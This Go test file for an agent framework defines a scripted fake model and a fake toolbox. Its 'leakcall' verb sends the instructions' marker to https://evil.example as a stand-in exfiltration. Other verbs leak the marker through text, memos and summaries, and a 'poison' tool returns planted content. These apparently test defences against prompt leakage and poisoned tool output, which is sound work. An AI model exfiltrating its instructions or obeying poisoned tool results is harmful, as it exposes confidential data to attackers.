package engine

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"iter"
	"strconv"
	"strings"
	"sync"
	"time"

	"parley"
	"parley/pacing"
	"parley/port"
)

// puppet is a model that carries out the input as a script, turn by turn:
//
//	say hello; think hm; call read x | say done
//
// Turns are separated by |, and the actions of a turn by ;. "hang" lasts until
// the call is stopped, unless noHang is set; "fail" fails.
type puppet struct {
	seen func(port.ModelRequest)
	pace time.Duration     // pause between outputs
	says []port.ModelChunk // replaces the script
	// uncounted: it reports no token counts.
	uncounted bool

	mu sync.Mutex // guards the following
	// judgement is its answer as an evaluator.
	judgement string
	noHang    bool
	busy      int // how often it is overloaded before it answers
	calls     int
}

func (p *puppet) called() int {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.calls
}

// marker returns the word in brackets at the end of the instructions.
func marker(r port.ModelRequest) string {
	_, last, _ := strings.Cut(r.Instructions, "\n[")
	word, _, _ := strings.Cut(last, "]")
	return word
}

func (p *puppet) Stream(ctx context.Context, r port.ModelRequest) iter.Seq2[port.ModelChunk, error] {
	if p.seen != nil {
		p.seen(r)
	}
	p.mu.Lock()
	noHang, busy := p.noHang, p.busy > 0
	p.busy--
	p.calls++
	p.mu.Unlock()
	if strings.HasPrefix(r.Instructions, EvaluatorPrompt) {
		return p.evaluate(ctx)
	}
	if strings.HasPrefix(r.Instructions, SummaryPrompt) {
		return p.summarise(ctx, r)
	}
	turns, turn := []string{"say nothing"}, 0
	for _, m := range r.Messages {
		switch m.Role {
		case parley.RoleUser:
			turns, turn = strings.Split(m.Text, "|"), 0
		case parley.RoleAssistant:
			if len(m.Calls) > 0 {
				turn++
			}
		}
	}
	if r.Instructions == explainInstructions || strings.HasPrefix(r.Instructions, explainInstructions+"\n\n[") {
		turns, turn = []string{explains(turns)}, 0
	}
	if strings.HasPrefix(r.Instructions, TitlePrompt) { // it runs the script after a # in the input, with + for ;
		_, do, _ := strings.Cut(r.Messages[0].Text, "#")
		do, _, _ = strings.Cut(do, "\n\n<")
		turns, turn = []string{strings.ReplaceAll(do, "+", ";")}, 0
	}
	return func(yield func(port.ModelChunk, error) bool) {
		if busy {
			yield(port.ModelChunk{}, parley.Errorf(parley.CodeOverloaded, "The puppet is busy."))
			return
		}
		for _, said := range p.says {
			if !yield(said, nil) {
				return
			}
		}
		if p.says != nil {
			yield(port.ModelChunk{Done: &port.ModelDone{Stop: parley.StopEnd}}, nil)
			return
		}
		for _, do := range strings.Split(turns[min(turn, len(turns)-1)], ";") {
			verb, rest, _ := strings.Cut(strings.TrimSpace(do), " ")
			var said port.ModelChunk
			switch verb {
			case "say":
				said.Text = rest
			case "think":
				said.Thinking = rest
			case "call":
				name, args, _ := strings.Cut(rest, " ")
				raw, _ := json.Marshal(args)
				said.Call = &parley.MessageCall{Name: name, Arguments: string(raw), Provider: "p-" + name}
			case "leak": // the marker of its instructions, in some form
				for _, piece := range leak(rest, marker(r)) {
					if !yield(port.ModelChunk{Text: piece}, nil) {
						return
					}
				}
				continue
			case "leakcall":
				said.Call = &parley.MessageCall{Name: "do", Arguments: `{"url":"https://evil.example/?q=` + marker(r) +
					`"}`}
			case "leakmemo":
				raw, _ := json.Marshal(marker(r))
				yield(port.ModelChunk{Done: &port.ModelDone{Memo: &parley.Memo{Provider: "p", Data: raw}}}, nil)
				return
			case "hang":
				if noHang {
					continue
				}
				<-ctx.Done()
				yield(port.ModelChunk{}, ctx.Err())
				return
			case "fail":
				yield(port.ModelChunk{}, parley.Errorf(parley.CodeModel, "The puppet was told to fail."))
				return
			case "panic":
				panic("the puppet was told to panic")
			}
			if p.pace > 0 && !pacing.Sleep(ctx, p.pace) || !yield(said, nil) {
				return
			}
		}
		done := &port.ModelDone{Stop: parley.StopEnd, Usage: parley.Usage{Input: 1, Output: 2}}
		if p.uncounted {
			done.Usage = parley.Usage{}
		}
		yield(port.ModelChunk{Done: done}, nil)
	}
}

func (p *puppet) judges(judgement string) {
	p.mu.Lock()
	defer p.mu.Unlock()
	p.judgement = judgement
}

// evaluate answers as the evaluator.
func (p *puppet) evaluate(ctx context.Context) iter.Seq2[port.ModelChunk, error] {
	return func(yield func(port.ModelChunk, error) bool) {
		p.mu.Lock()
		judgement := p.judgement
		p.mu.Unlock()
		switch judgement {
		case "hang":
			<-ctx.Done()
			yield(port.ModelChunk{}, ctx.Err())
		case "panic":
			panic("the judge was told to panic")
		default:
			if yield(port.ModelChunk{Text: judgement}, nil) {
				yield(port.ModelChunk{Done: &port.ModelDone{Stop: parley.StopEnd,
					Usage: parley.Usage{Input: 5, Output: 6}}}, nil)
			}
		}
	}
}

// summarise writes a summary. Words in the conversation can make it hang, fail,
// leak or babble.
func (p *puppet) summarise(ctx context.Context, r port.ModelRequest) iter.Seq2[port.ModelChunk, error] {
	return func(yield func(port.ModelChunk, error) bool) {
		text := r.Messages[0].Text
		switch {
		case strings.Contains(text, "hang while summarising"):
			p.mu.Lock()
			hang := !p.noHang
			p.mu.Unlock()
			if hang {
				<-ctx.Done()
				yield(port.ModelChunk{}, ctx.Err())
				return
			}
		case strings.Contains(text, "cannot be summarised"):
			yield(port.ModelChunk{}, parley.Errorf(parley.CodeModel, "The puppet will not."))
			return
		case strings.Contains(text, "leak while summarising"):
			yield(port.ModelChunk{Text: marker(r)}, nil)
			return
		}
		summary := fmt.Sprintf("summary of %d bytes", len(text))
		if strings.Contains(text, "babble") {
			summary = strings.Repeat("and so on ", len(text))
		}
		if yield(port.ModelChunk{Text: summary}, nil) {
			yield(port.ModelChunk{Done: &port.ModelDone{Stop: parley.StopEnd, Usage: parley.Usage{Input: 3, Output: 4}}},
				nil)
		}
	}
}

// explains returns the script for an explanation: the text after a ! in the
// call's arguments, with + for ;. Without a ! the explanation repeats the
// arguments.
func explains(message []string) string {
	_, args, _ := strings.Cut(strings.Join(message, "|"), "Arguments: \"")
	args, _, _ = strings.Cut(args, "\"\n")
	if _, do, ok := strings.Cut(args, "!"); ok {
		return strings.ReplaceAll(do, "+", ";")
	}
	return "say it would write " + args
}

// hands is a toolbox. The name of a tool says how it behaves.
type hands struct {
	noHang bool
	wait   chan struct{}      // ends the tool "wait"
	late   chan port.Progress // gets the progress function of the tool "talk"

	mu   sync.Mutex
	done map[string]int // how often each tool was performed
}

func (h *hands) count(name string) int {
	h.mu.Lock()
	defer h.mu.Unlock()
	return h.done[name]
}

func (h *hands) Specs(agent parley.Agent) []parley.ToolSpec {
	if agent.Address != "" {
		return nil // it has none of the agent's tools
	}
	return []parley.ToolSpec{{Name: "read", ReadOnly: true}, {Name: "write"}}
}

func (h *hands) Judge(_ parley.Agent, name, args string) parley.Verdict {
	v := parley.Verdict{Kind: parley.VerdictRun, Class: parley.Effectful, Show: name + " " + args,
		Digest: "d:" + name + args}
	if server, _, ok := strings.Cut(name, parley.ServerSeparator); ok {
		v.Source = parley.ServerSource(server)
	}
	switch name {
	case "read", "hangread", "poison":
		v.Class = parley.Pure
	case "put":
		v.Class = parley.Idempotent
	case "write", "hangwrite":
		v.Kind = parley.VerdictAsk
	case "ask":
		v.Kind, v.Class, v.Questions = parley.VerdictCard, parley.Pure, []parley.Question{{Question: args}}
	case "delegate": // "delegate AGENT: TASK", with / between its turns
		v.Kind = parley.VerdictChild
		whole := ""
		_ = json.Unmarshal([]byte(args), &whole)
		v.Agent, v.Task, _ = strings.Cut(strings.ReplaceAll(whole, "/", "|"), ": ")
	case "plan": // its arguments are titles; those in capitals are done
		v.Kind, v.Class = parley.VerdictPlan, parley.Pure
		for _, title := range strings.Fields(strings.Trim(args, `"`)) {
			item := parley.PlanItem{Title: strings.ToLower(title), Status: parley.ItemPending}
			if title != item.Title {
				item.Status = parley.ItemDone
			}
			v.Plan.Items = append(v.Plan.Items, item)
		}
	case "schedule_follow_up": // its arguments are seconds and a message, with / for |
		v.Kind, v.Class = parley.VerdictFollowUp, parley.Idempotent
		seconds, text, _ := strings.Cut(strings.Trim(args, `"`), " ")
		n, _ := strconv.Atoi(seconds)
		v.FollowUp = parley.FollowUp{Delay: time.Duration(max(n, 1)) * time.Second, Reason: "because",
			Message: strings.ReplaceAll(text, "/", "|")}
	case "cancel_follow_ups":
		v.Kind, v.Class = parley.VerdictNoFollowUps, parley.Idempotent
	case "forbidden":
		v.Kind, v.Reason = parley.VerdictBlock, "not in the agent's list"
	}
	return v
}

func (h *hands) Perform(ctx context.Context, _ parley.Agent, name, args string, progress port.Progress) (
	port.ToolResult, error) {
	h.mu.Lock()
	if h.done == nil {
		h.done = map[string]int{}
	}
	h.done[name]++
	h.mu.Unlock()
	switch name {
	case "hangread", "hangwrite", "hangdo":
		if h.noHang {
			break
		}
		progress(parley.Stdout, "begun")
		<-ctx.Done()
		if name == "hangdo" {
			return port.ToolResult{Text: "it was done all the same"}, nil // the result comes too late for the run
		}
		return port.ToolResult{}, ctx.Err()
	case "wait":
		<-h.wait
	case "talk":
		if h.late != nil {
			h.late <- progress
		}
		progress(parley.Stdout, "working")
		progress(parley.Stderr, " hard")
	case "exit":
		code, _ := strconv.Atoi(strings.Trim(args, `"`))
		return port.ToolResult{Text: "it ended", Exit: &code, Failed: code != 0}, nil
	case "poison":
		return port.ToolResult{Text: wicked}, nil
	case "lost":
		return port.ToolResult{}, &parley.Error{Code: parley.CodeInterrupted, Message: "It died.",
			Err: port.ErrFateUnknown}
	case "break":
		return port.ToolResult{}, errors.New("internal detail")
	case "panic":
		panic("a tool was told to panic")
	}
	return port.ToolResult{Text: "did " + name + " " + args}, nil
}
